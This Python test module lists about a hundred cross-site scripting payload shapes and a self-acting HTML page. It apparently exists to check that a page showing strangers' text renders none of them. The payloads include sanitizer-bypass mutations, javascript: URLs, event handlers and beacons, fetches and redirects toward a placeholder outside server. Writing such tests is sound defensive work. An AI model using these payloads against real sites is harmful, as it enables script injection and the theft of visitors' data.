"""Ways to smuggle a script into a page that shows strangers' text, and a page that acts by itself.

Each shape calls `owned(N)`, a function that the test's browser notes, or asks for a path of
`OUTSIDE`, a server that notes every request. `CALL` and `OUTSIDE` are put in by `shapes`.
"""

from __future__ import annotations

from typing import Final

_SHAPES: Final = r"""
<script>CALL</script>
<ScRiPt>CALL</sCrIpT>
<script src="OUTSIDE/x.js"></script>
<script type=module>CALL</script>
<script/x>CALL</script>
<scr<script>ipt>CALL</scr</script>ipt>
"><script>CALL</script>
'><script>CALL</script>
</title><script>CALL</script>
</textarea><script>CALL</script>
</style><script>CALL</script>
</script><script>CALL</script>
--><script>CALL</script>
]]><script>CALL</script>
</pre></bdi></a><script>CALL</script>
<img src=x onerror=CALL>
<img src=x oNeRrOr="CALL">
<img/src=x/onerror=CALL>
<img src="OUTSIDE/i.png">
<img srcset="OUTSIDE/s.png 2x" attributionsrc="OUTSIDE/a">
"><img src=x onerror=CALL>
' onerror=CALL src=x '
" onmouseover="CALL
" autofocus onfocus="CALL" x="
' autofocus onfocus='CALL' x='
x onpointerenter=CALL
<svg onload=CALL>
<svg/onload=CALL>
<svg><script>CALL</script></svg>
<svg><script href="OUTSIDE/s.js"/></svg>
<svg><animate onbegin=CALL attributeName=x dur=1s>
<svg><a><animate attributeName=href values="javascript:CALL"/><text y=20>click</text></a></svg>
<svg><set attributeName=onclick to="CALL"/></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=CALL>#x"/></svg>
<svg><image href="OUTSIDE/svg.png"/><foreignObject><iframe src="OUTSIDE/fo"></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=CALL>">
<math href="javascript:CALL">click</math>
<math><maction actiontype="statusline#OUTSIDE" xlink:href="javascript:CALL">click</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>
<noscript><p title="</noscript><img src=x onerror=CALL>">
<body onload=CALL>
<body onpageshow=CALL onhashchange=CALL>
<details open ontoggle=CALL>
<video src=x onerror=CALL></video>
<video><source onerror=CALL></video>
<audio src="OUTSIDE/a.ogg" autoplay onplay=CALL></audio>
<video poster="OUTSIDE/p.png"></video>
<input autofocus onfocus=CALL>
<select autofocus onfocus=CALL><option>x</select>
<marquee onstart=CALL>x</marquee>
<style>@import "OUTSIDE/c.css";</style>
<style>body{background:url(OUTSIDE/b.png)}@font-face{font-family:f;src:url(OUTSIDE/f)}*{font-family:f}</style>
<p style="background:url(OUTSIDE/in.png)">styled</p>
<p style="animation:x" onanimationstart=CALL>moves</p><style>@keyframes x{}</style>
<div style="background-image:\75\72\6c(OUTSIDE/esc.png)">escaped</div>
<link rel=stylesheet href="OUTSIDE/l.css">
<link rel=preload as=image href="OUTSIDE/pre.png">
<link rel=prefetch href="OUTSIDE/prefetch"><link rel=preconnect href="OUTSIDE">
<link rel=manifest href="OUTSIDE/m.json"><link rel=icon href="OUTSIDE/icon">
<iframe src="javascript:parent.CALL"></iframe>
<iframe srcdoc="<script>parent.CALL</script>"></iframe>
<iframe src="OUTSIDE/frame"></iframe>
<iframe src="data:text/html,<script>parent.CALL</script>"></iframe>
<frameset><frame src="OUTSIDE/fs"></frameset>
<object data="OUTSIDE/o" type="text/html"></object>
<object data="javascript:CALL"></object>
<embed src="OUTSIDE/e"><applet code=x codebase="OUTSIDE/ap"></applet>
<meta http-equiv=refresh content="0;url=OUTSIDE/refresh">
<meta http-equiv=refresh content="0;url=javascript:CALL">
<meta http-equiv=content-security-policy content="script-src * 'unsafe-inline'">
<meta http-equiv=set-cookie content="gossamer_8800=evil">
<base href="OUTSIDE/"><img src=based.png>
<a href="javascript:CALL">click</a>
<a href=" &#1;java&Tab;script:CALL">click</a>
<a href="JaVaScRiPt&colon;CALL">click</a>
<a href="data:text/html,<script>CALL</script>">click</a>
<a href="vbscript:CALL">click</a>
<a href="OUTSIDE/ping-me" ping="OUTSIDE/ping" target=_top>click</a>
<form action="OUTSIDE/form"><input name=a><button formaction="OUTSIDE/fa">send</button></form>
<form action="javascript:CALL"><input type=submit value=send></form>
<isindex action="javascript:CALL" type=submit>
<template shadowrootmode=open><img src=x onerror=CALL><slot></slot></template>
<x-element is=y onclick=CALL>click</x-element>
<table background="OUTSIDE/t.png"><td background="OUTSIDE/td.png">cell</table>
<dialog open onclose=CALL><form method=dialog><button>ok</button></form></dialog>
<button popovertarget=p>pop</button><div popover id=p onbeforetoggle=CALL>x</div>
<portal src="OUTSIDE/portal" onload=CALL></portal><fencedframe></fencedframe>
<plaintext><script>CALL</script>
<xmp><script>CALL</script></xmp>
<!--[if gte IE 4]><script>CALL</script><![endif]-->
<?xml-stylesheet href="javascript:CALL"?>
{{constructor.constructor('CALL')()}}
${CALL}
#{CALL}<%= CALL %>
\u003cscript\u003eCALL\u003c/script\u003e
+ADw-script+AD4-CALL+ADw-/script+AD4-
%3Cscript%3ECALL%3C/script%3E
\";CALL;//
';CALL;//
`${CALL}`
</script><!--<script>CALL
event: status
""".strip().splitlines()


def shapes(outside: str) -> list[str]:
    """All of them; the how manieth is in what it calls, so that a failure names its line."""
    return [
        shape.replace("CALL", f"owned({at})").replace("OUTSIDE", f"{outside}/{at}")
        for at, shape in enumerate(_SHAPES)
    ]


# A page that acts as soon as it is open; the control of the test shows that it would.
ACTING: Final = """<!doctype html><title>acting</title>
<script>owned("acting"); fetch("OUTSIDE/fetch");
navigator.serviceWorker?.register("/sw.js").catch(() => {});
navigator.sendBeacon("OUTSIDE/beacon", "x"); new Image().src = "OUTSIDE/image";
new WebSocket("OUTSIDE/socket".replace("http", "ws")); open("OUTSIDE/window");
document.cookie = "evil=1"; alert("owned"); top.location = "OUTSIDE/top";
setTimeout(() => document.querySelector("form").submit(), 0);</script>
<form action="OUTSIDE/submitted" method=post></form>
<img src="OUTSIDE/plain.png"><p>garden of acts</p>"""
